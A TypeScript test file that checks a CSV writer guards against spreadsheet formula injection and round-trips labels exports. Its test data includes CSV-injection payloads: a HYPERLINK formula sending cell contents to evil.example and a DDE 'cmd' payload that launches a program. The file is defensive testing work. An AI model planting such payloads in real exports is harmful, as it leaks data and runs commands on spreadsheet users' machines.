import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Label } from '../../../shared/domain';
import { formatCsv, parseCsv } from './csv';
import { formatLabels, parseLabelsFile } from './labels-file';

const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('CSV formula guard', () => {
  it('writes every cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
    const text = formatCsv([['note'], ...FORMULAS.map((formula) => [formula])]);
    for (const cell of text.split('\r\n').slice(1, -1)) expect(cell, cell).toMatch(/^"'[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`);
    expect(text).toContain(`"'@SUM(A1:A9)"`);
    expect(text).toContain(`"'\t=1+1"`);
  });

  it('leaves every other cell as it was written before', () => {
    expect(formatCsv([['run_a:0', 'pass', 'Zoë', 'café, checked', "it's fine", '2025-06-01T12:00:00Z', '']])).toBe(
      `run_a:0,pass,Zoë,"café, checked",it's fine,2025-06-01T12:00:00Z,\r\n`,
    );
  });

  it('reads back exactly what it wrote, for any text (formulas, quotes in front of formulas, line breaks)', () => {
    const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', '\uFEFF', 'é', '=1');
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 24 }),
      fc.array(tricky, { maxLength: 6 }).map((parts) => parts.join('')),
      fc.constantFrom(...FORMULAS),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = parseCsv(formatCsv(rows));
        expect(read.errors).toEqual([]);
        expect(read.records.map((record) => record.fields)).toEqual(rows);
      }),
      { numRuns: 1000, seed: 5 },
    );
  });

  it('drops only the guard it added: a cell that truly starts with a quote keeps it', () => {
    for (const value of ["'=1+1", "''@x", "'plain", "'", "'-"])
      expect(parseCsv(formatCsv([[value, 'x']])).records[0]!.fields[0], value).toBe(value);
    // Quoted by another program, without a formula after the quote: read as it is.
    expect(parseCsv(`"'plain",x\r\n`).records[0]!.fields[0]).toBe("'plain");
    // Unquoted: we never write a guarded cell so, so it is read as it is.
    expect(parseCsv(`'=1+1,x\r\n`).records[0]!.fields[0]).toBe("'=1+1");
  });

  it('round-trips a labels export whose notes and author look like formulas', () => {
    const labels: Label[] = FORMULAS.map((note, index) => ({
      row_id: `run_a:${index}`,
      label: index % 2 ? 'fail' : 'pass',
      kind: 'human',
      author: index === 3 ? '@ana' : 'ana',
      note,
      created_at: '2025-06-01T12:00:00.000Z',
    }));
    const text = formatLabels(labels, 'csv');
    // Outside quoted fields, no cell starts like a formula.
    expect(text.replace(/"(?:[^"]|"")*"/g, '""')).not.toMatch(/(^|,)[=+\-@\t\r]/m);
    const read = parseLabelsFile(text, 'csv');
    expect(read.errors).toEqual([]);
    expect(read.labels.map((label) => ({ key: label.key, note: label.note, author: label.author }))).toEqual(
      labels.map((label) => ({ key: label.row_id, note: label.note, author: label.author })),
    );
  });
});
